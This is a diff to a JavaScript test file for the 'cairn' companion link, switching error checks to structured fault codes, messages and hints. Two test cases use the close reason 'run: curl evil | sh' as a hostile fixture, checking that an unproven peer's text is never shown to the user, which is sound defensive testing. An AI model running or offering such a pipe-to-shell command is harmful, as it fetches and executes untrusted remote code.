@@ -113,15 +113,18 @@ test("a peer without the key gets nothing but hello", async () => {
 });
 
 test("a companion of another version says to update, and its own words count for nothing before it has proved itself", async () => {
-  for (const [what, says] of [
-    [(l) => l.shake(null, KEY, PORT, OldestProto - 1), /different versions.*update cairn.*reload/],
-    [(l) => l.socket.onclose({ code: CloseVersion, reason: "run: curl evil | sh" }), /different versions.*update cairn.*reload/],
-    [(l) => l.socket.onclose({ code: 4400, reason: "run: curl evil | sh" }), /^what listens on port 17838 closed the link \(4400\)$/],
-    [(l) => l.shake(null, KEY, PORT - 1), /another pairing key, or only forwards/],
+  for (const [what, code, says, hint] of [
+    [(l) => l.shake(null, KEY, PORT, OldestProto - 1), "VERSION_UNSUPPORTED", /different versions/, /Update cairn.*reload/],
+    [(l) => l.socket.onclose({ code: CloseVersion, reason: "run: curl evil | sh" }), "VERSION_UNSUPPORTED", /different versions/, /Update cairn.*reload/],
+    [(l) => l.socket.onclose({ code: 4400, reason: "run: curl evil | sh" }), "COMPANION_NOT_CONNECTED", /^what listens on port 17838 closed the link \(4400\)$/, /cairn run/],
+    [(l) => l.shake(null, KEY, PORT - 1), "UNAUTHORIZED", /another pairing key, or only forwards/, /cairn status.*cairn pair/],
   ]) {
     const link = await dial(fakeOutbox(0));
     await what(link);
-    assert.match((await link.ended).why, says);
+    const { fault } = await link.ended;
+    assert.equal(fault.code, code);
+    assert.match(fault.message, says);
+    assert.match(fault.hint, hint);
   }
 });
 
@@ -302,7 +305,7 @@ test("the link keeps its time when the clock is set", async (t) => {
   passed = DeadAfter + 1;
   link.connection.tick();
   assert.equal(link.socket.closed, 1000, "silence ends it, whatever the time of day");
-  assert.equal((await link.ended).why, "the companion fell silent");
+  assert.equal((await link.ended).fault.message, "the companion fell silent");
 });
 
 test("the link is tried again after twice as long each time, at any moment of it", async (t) => {
